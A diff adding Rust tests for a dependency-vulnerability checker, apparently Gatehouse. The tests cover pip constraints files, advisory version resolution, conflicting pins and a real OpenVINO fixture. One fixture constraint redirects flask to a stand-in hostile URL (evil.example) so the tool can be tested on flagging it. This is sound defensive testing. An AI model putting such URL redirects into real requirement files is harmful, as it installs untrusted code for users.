@@ -415,3 +415,153 @@ fn a_member_named_inside_the_current_folder_finds_the_root_lockfile_without_git(
     assert_eq!(webpack["version"], "2.7.0", "{webpack}");
     assert_eq!(webpack["version_source"], "lockfile", "{webpack}");
 }
+
+fn packages_of<'a>(report: &'a Value, file: &str, package: &str) -> Vec<&'a Value> {
+    report["packages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|p| p["file"].as_str().is_some_and(|f| f.ends_with(file)) && p["package"] == package)
+        .collect()
+}
+
+fn finding_of<'a>(report: &'a Value, file: &str, package: &str, id: &str) -> Option<&'a Value> {
+    report["findings"].as_array().unwrap().iter().find(|f| {
+        f["file"].as_str().is_some_and(|name| name.ends_with(file)) && f["package"] == package && f["id"] == id
+    })
+}
+
+/// pip applies `-c constraints.txt` to everything it installs: `requests>=2` with `requests==2.19.0`
+/// in the constraints file installs 2.19.0 (PYSEC-2018-28). Gatehouse checked that the file existed and
+/// resolved the bare range, so a clone could hide the finding in its constraints file. The version
+/// checked is the constrained one, said in text, JSON and SARIF, and the pin is a finding on its own
+/// line in the constraints file too (pip installs it whenever anything pulls requests in).
+#[test]
+fn a_constraints_file_decides_the_version_checked() {
+    let project = Project::new(&[
+        ("requirements.txt", "requests>=2\n-c constraints.txt\n"),
+        ("constraints.txt", "# pins\nrequests==2.19.0\n"),
+    ]);
+    std::fs::write(project.path("gatehouse.toml"), project.offline_config()).unwrap();
+    // Offline without registry data: findings, and the registry checks not done (never 0).
+    let (code, stdout, stderr) = run(&["check", ".", "--format", "json"], project.dir.path());
+    assert_ne!(code, 0, "{stdout}{stderr}");
+    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{stdout}{stderr}"));
+    let listed = finding_of(&report, "requirements.txt", "requests", "PYSEC-2018-28")
+        .unwrap_or_else(|| panic!("no finding on the requirement: {stdout}"));
+    assert_eq!(listed["version"], "2.19.0", "{listed}");
+    assert_eq!(listed["version_source"], "constrained", "{listed}");
+    assert_eq!(
+        listed["constrained_by"], "constrained by constraints.txt:2 (==2.19.0)",
+        "{listed}"
+    );
+    assert!(
+        listed["message"]
+            .as_str()
+            .unwrap()
+            .contains("constrained by constraints.txt:2"),
+        "{listed}"
+    );
+    let pinned = finding_of(&report, "constraints.txt", "requests", "PYSEC-2018-28")
+        .filter(|f| !f["file"].as_str().unwrap().ends_with("requirements.txt"))
+        .unwrap_or_else(|| panic!("no finding on the constraint's line: {stdout}"));
+    assert_eq!(pinned["range"]["start"]["line"], 1, "{pinned}");
+    assert!(pinned["message"].as_str().unwrap().contains("a constraint"), "{pinned}");
+
+    let (code, text, stderr) = run(&["check", "."], project.dir.path());
+    assert_ne!(code, 0, "{text}{stderr}");
+    assert!(text.contains("(constrained by constraints.txt:2 (==2.19.0))"), "{text}");
+    let (_, sarif, _) = run(&["check", ".", "--format", "sarif"], project.dir.path());
+    let sarif: Value = serde_json::from_str(&sarif).unwrap();
+    assert!(
+        sarif["runs"][0]["results"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r["properties"]["constrainedBy"] == "constrained by constraints.txt:2 (==2.19.0)"),
+        "{sarif}"
+    );
+}
+
+/// Constraints named in an included file apply to the whole invocation; one that admits no version
+/// with the requirement is a problem (pip refuses), never clean; one with a URL sends the package
+/// there (not checked against the registry).
+#[test]
+fn included_conflicting_and_url_constraints_are_never_clean() {
+    let project = Project::new(&[
+        ("requirements.txt", "-r base.txt\nrequests>=2.20\n"),
+        ("base.txt", "--constraint pins/constraints.txt\nFlask\n"),
+        (
+            "pins/constraints.txt",
+            "requests==2.19.0\nflask @ https://evil.example/flask-0.1.tar.gz\n",
+        ),
+    ]);
+    std::fs::write(project.path("gatehouse.toml"), project.offline_config()).unwrap();
+    let (code, stdout, stderr) = run(&["check", "requirements.txt", "--format", "json"], project.dir.path());
+    assert_ne!(code, 0, "{stdout}{stderr}");
+    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{stdout}{stderr}"));
+    let requests = packages_of(&report, "requirements.txt", "requests");
+    let requests = requests.first().unwrap_or_else(|| panic!("{stdout}"));
+    assert_eq!(requests["status"], "unavailable", "{requests}");
+    assert!(
+        requests["check_reasons"]["advisory"]
+            .as_str()
+            .unwrap()
+            .contains("pip cannot install it"),
+        "{requests}"
+    );
+    assert_eq!(requests["version"], Value::Null, "{requests}");
+    let flask = packages_of(&report, "base.txt", "flask");
+    let flask = flask.first().unwrap_or_else(|| panic!("{stdout}"));
+    assert_eq!(flask["status"], "skipped", "{flask}");
+    assert!(
+        flask["check_reasons"]["advisory"]
+            .as_str()
+            .unwrap()
+            .contains("installed from https://evil.example/flask-0.1.tar.gz"),
+        "{flask}"
+    );
+}
+
+/// openvinotoolkit/openvino's Python bindings: `requirements_test.txt` opens with `-c ./constraints.txt`
+/// and lists bare names whose versions the constraints decide.
+#[test]
+fn openvino_test_requirements_are_checked_with_their_constraints() {
+    let real = fixtures().join("manifests/pip-constraints/openvino");
+    let read = |name: &str| std::fs::read_to_string(real.join(name)).unwrap();
+    let project = Project::new(&[
+        ("requirements_test.txt", &read("requirements_test.txt")),
+        ("constraints.txt", &read("constraints.txt")),
+    ]);
+    std::fs::write(project.path("gatehouse.toml"), project.offline_config()).unwrap();
+    let (_, stdout, stderr) = run(&["check", ".", "--format", "json"], project.dir.path());
+    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{stdout}{stderr}"));
+    let first = |file: &str, package: &str| {
+        *packages_of(&report, file, package)
+            .first()
+            .unwrap_or_else(|| panic!("{file}: {package}: {stdout}"))
+    };
+    let html = first("requirements_test.txt", "pytest-html");
+    assert_eq!(html["version"], "4.1.1", "{html}");
+    assert_eq!(html["version_source"], "constrained", "{html}");
+    let numpy = first("requirements_test.txt", "numpy");
+    assert_eq!(numpy["requirement"], ">=1.16.6,<2.3.0", "{numpy}");
+    assert_eq!(
+        numpy["constrained_by"], "constrained by constraints.txt:2 (>=1.16.6,<2.3.0)",
+        "{numpy}"
+    );
+    let wheel = first("requirements_test.txt", "wheel");
+    assert_eq!(
+        wheel["constrained_by"], "constrained by constraints.txt:15 (>=0.38.1)",
+        "{wheel}"
+    );
+    // The constraints file's own pins are what pip installs whenever anything pulls them in.
+    let onnx = first("constraints.txt", "onnx");
+    assert_eq!(onnx["version"], "1.18.0", "{onnx}");
+    assert!(
+        onnx["constrained_by"].as_str().unwrap().starts_with("a constraint"),
+        "{onnx}"
+    );
+    let ranged = first("constraints.txt", "tensorflow");
+    assert_eq!(ranged["status"], "skipped", "{ranged}");
+}
